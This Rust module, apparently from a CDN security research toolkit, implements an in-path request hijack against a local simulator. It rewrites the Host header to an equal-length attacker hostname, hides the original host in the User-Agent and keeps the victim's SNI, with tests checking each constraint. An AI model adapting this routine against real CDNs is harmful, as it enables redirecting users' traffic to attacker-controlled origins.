//! In-path traffic hijack built from domain faking.
//!
//! An attacker between a browser and a CDN edge cannot read TLS, but if
//! it also controls a customer account on the same CDN it can rewrite
//! the browser's plaintext-visible routing inputs. The rewrite here
//! swaps the Host header to the attacker's equal-length hostname and
//! stashes the original in the leading bytes of the User-Agent, so the
//! edge routes to the attacker origin while the request stays byte-for
//! byte the same length. Length preservation is the hard constraint:
//! the interception point sits after lengths are committed, so growing
//! or shrinking the request is not an option, only overwriting is.
//!
//! Everything runs against the local simulator; the "attacker" origin
//! is [`start_attacker_origin`](super::start_attacker_origin) on
//! loopback.

use std::net::SocketAddr;

use serde::Serialize;

use super::origin::AttackerOrigin;
use crate::scan_engine::{https_send_raw, ScanConfig};

/// Firefox-style identifier long enough to carry a hijacked hostname.
pub const DEMO_USER_AGENT: &str =
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:104.0) Gecko/20100101 Firefox/104.0";

#[derive(Debug, Clone)]
pub struct VictimRequest {
    pub domain: String,
    pub path: String,
}

#[derive(Debug, thiserror::Error)]
pub enum DemoError {
    #[error("host {0:?} is not a fourteen-character label directly under {1:?}")]
    HostShape(String, String),
    #[error("request has no {0} header")]
    MissingHeader(&'static str),
    #[error("user-agent too short to carry the host: need {needed} bytes, have {have}")]
    UserAgentTooShort { needed: usize, have: usize },
    #[error("rewrite changed the request length from {before} to {after} bytes")]
    LengthChanged { before: usize, after: usize },
    #[error("request head unparseable: {0}")]
    Parse(String),
    #[error("transport: {0}")]
    Transport(String),
}

/// The attacker's view of one rewritten request.
#[derive(Debug, Clone, Serialize)]
pub struct RewriteOutcome {
    #[serde(skip)]
    pub request: Vec<u8>,
    pub host_before: String,
    pub host_after: String,
    pub user_agent_before: String,
    pub user_agent_after: String,
}

fn is_hijackable_host(host: &str, zone: &str) -> bool {
    let Some(label) = host.strip_suffix(zone).and_then(|rest| rest.strip_suffix('.')) else {
        return false;
    };
    label.len() == 14 && label.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
}

fn header_value_span(raw: &[u8], name: &str) -> Result<(usize, usize), DemoError> {
    let mut headers = [httparse::EMPTY_HEADER; 64];
    let mut request = httparse::Request::new(&mut headers);
    match request.parse(raw) {
        Ok(httparse::Status::Complete(_)) => {}
        Ok(httparse::Status::Partial) => return Err(DemoError::Parse("incomplete head".into())),
        Err(e) => return Err(DemoError::Parse(e.to_string())),
    }
    for header in request.headers.iter() {
        if header.name.eq_ignore_ascii_case(name) {
            let start = header.value.as_ptr() as usize - raw.as_ptr() as usize;
            return Ok((start, start + header.value.len()));
        }
    }
    Err(DemoError::MissingHeader(if name == "host" { "host" } else { "user-agent" }))
}

/// Rewrites a victim request in place: Host becomes `attacker_host`,
/// the original host is written over the first bytes of the
/// User-Agent, and the total length must come out unchanged.
pub fn rewrite_request(
    raw: &[u8],
    zone: &str,
    attacker_host: &str,
) -> Result<RewriteOutcome, DemoError> {
    let (host_start, host_end) = header_value_span(raw, "host")?;
    let host_before = String::from_utf8_lossy(&raw[host_start..host_end]).to_string();
    if !is_hijackable_host(&host_before, zone) {
        return Err(DemoError::HostShape(host_before, zone.to_string()));
    }
    if !is_hijackable_host(attacker_host, zone) {
        return Err(DemoError::HostShape(attacker_host.to_string(), zone.to_string()));
    }

    let (ua_start, ua_end) = header_value_span(raw, "user-agent")?;
    let ua_before = String::from_utf8_lossy(&raw[ua_start..ua_end]).to_string();
    if ua_end - ua_start < host_before.len() {
        return Err(DemoError::UserAgentTooShort {
            needed: host_before.len(),
            have: ua_end - ua_start,
        });
    }

    let mut rewritten = raw.to_vec();
    rewritten[host_start..host_end].copy_from_slice(attacker_host.as_bytes());
    rewritten[ua_start..ua_start + host_before.len()].copy_from_slice(host_before.as_bytes());
    if rewritten.len() != raw.len() {
        return Err(DemoError::LengthChanged { before: raw.len(), after: rewritten.len() });
    }
    let ua_after = String::from_utf8_lossy(&rewritten[ua_start..ua_end]).to_string();
    Ok(RewriteOutcome {
        request: rewritten,
        host_before,
        host_after: attacker_host.to_string(),
        user_agent_before: ua_before,
        user_agent_after: ua_after,
    })
}

/// What actually went over the wire, for the report and assertions.
#[derive(Debug, Clone, Serialize)]
pub struct DemoTranscript {
    pub sni: String,
    pub host_before: String,
    pub host_after: String,
    pub user_agent_before: String,
    pub user_agent_after: String,
    pub request_len_before: usize,
    pub request_len_after: usize,
    /// Leaf subject the victim's TLS stack saw; the hijack never
    /// breaks the certificate story for the SNI name.
    pub certificate_subject: Option<String>,
    pub status_code: Option<u16>,
    pub response_len: usize,
    /// Hostname the attacker origin recovered from the User-Agent.
    pub attacker_recovered_host: Option<String>,
    /// Raw body as delivered to the victim; kept out of the JSON
    /// transcript, which records only the length.
    #[serde(skip)]
    pub response_body: Vec<u8>,
}

fn victim_request_bytes(victim: &VictimRequest) -> Vec<u8> {
    format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nUser-Agent: {}\r\nAccept-Encoding: identity\r\nConnection: close\r\n\r\n",
        victim.path, victim.domain, DEMO_USER_AGENT
    )
    .into_bytes()
}

/// Runs the hijack end to end: build the victim request, apply the
/// attacker rewrite, send it to the edge with the victim's own SNI,
/// and report what the attacker origin learned.
pub fn host_rewrite_demo(
    victim: &VictimRequest,
    attacker_host: &str,
    edge_addr: SocketAddr,
    origin: &AttackerOrigin,
    zone: &str,
    cfg: &ScanConfig,
) -> Result<DemoTranscript, DemoError> {
    let original = victim_request_bytes(victim);
    let rewrite = rewrite_request(&original, zone, attacker_host)?;
    let log_mark = origin.recovered_hosts().len();

    // SNI stays the victim's domain: that is the whole point, the TLS
    // layer still tells the truth while the Host header lies.
    let exchange = https_send_raw(edge_addr, Some(&victim.domain), &rewrite.request, cfg)
        .map_err(|e| DemoError::Transport(e.message))?;

    let attacker_recovered_host = origin.recovered_hosts().get(log_mark).cloned();
    Ok(DemoTranscript {
        sni: victim.domain.clone(),
        host_before: rewrite.host_before,
        host_after: rewrite.host_after,
        user_agent_before: rewrite.user_agent_before,
        user_agent_after: rewrite.user_agent_after,
        request_len_before: original.len(),
        request_len_after: rewrite.request.len(),
        certificate_subject: exchange.leaf_cert.and_then(|c| c.subject_common_name),
        status_code: Some(exchange.status),
        response_len: exchange.body.len(),
        attacker_recovered_host,
        response_body: exchange.body,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const ZONE: &str = "sim.test";

    fn victim() -> VictimRequest {
        VictimRequest { domain: "victimsite00001.sim.test".into(), path: "/index.html".into() }
    }

    #[test]
    fn rewrite_preserves_length_and_swaps_host_into_user_agent() {
        let victim = VictimRequest { domain: "victimsite0001.sim.test".into(), path: "/".into() };
        let raw = victim_request_bytes(&victim);
        let outcome = rewrite_request(&raw, ZONE, "attackerhost01.sim.test").unwrap();
        assert_eq!(outcome.request.len(), raw.len());
        assert_eq!(outcome.host_before, "victimsite0001.sim.test");
        assert_eq!(outcome.host_after, "attackerhost01.sim.test");
        assert!(outcome.user_agent_after.starts_with("victimsite0001.sim.test"));
        assert_eq!(
            &outcome.user_agent_after[outcome.host_before.len()..],
            &outcome.user_agent_before[outcome.host_before.len()..]
        );
        let text = String::from_utf8(outcome.request).unwrap();
        assert!(text.contains("Host: attackerhost01.sim.test\r\n"));
        assert!(!text.contains("Host: victimsite0001.sim.test"));
    }

    #[test]
    fn rewrite_refuses_hosts_outside_the_hijackable_shape() {
        // 15-char label: replacing it with a 14-char attacker label
        // would change the request length, so the rewrite refuses.
        let raw = victim_request_bytes(&victim());
        assert!(matches!(
            rewrite_request(&raw, ZONE, "attackerhost01.sim.test"),
            Err(DemoError::HostShape(_, _))
        ));
        let ok = VictimRequest { domain: "victimsite0001.sim.test".into(), path: "/".into() };
        let raw = victim_request_bytes(&ok);
        assert!(matches!(
            rewrite_request(&raw, ZONE, "attacker.sim.test"),
            Err(DemoError::HostShape(_, _))
        ));
    }

    #[test]
    fn rewrite_needs_a_user_agent_long_enough_to_hold_the_host() {
        let raw = b"GET / HTTP/1.1\r\nHost: victimsite0001.sim.test\r\nUser-Agent: tiny\r\n\r\n";
        assert!(matches!(
            rewrite_request(raw, ZONE, "attackerhost01.sim.test"),
            Err(DemoError::UserAgentTooShort { .. })
        ));
        let raw = b"GET / HTTP/1.1\r\nHost: victimsite0001.sim.test\r\n\r\n";
        assert!(matches!(
            rewrite_request(raw, ZONE, "attackerhost01.sim.test"),
            Err(DemoError::MissingHeader("user-agent"))
        ));
    }
}
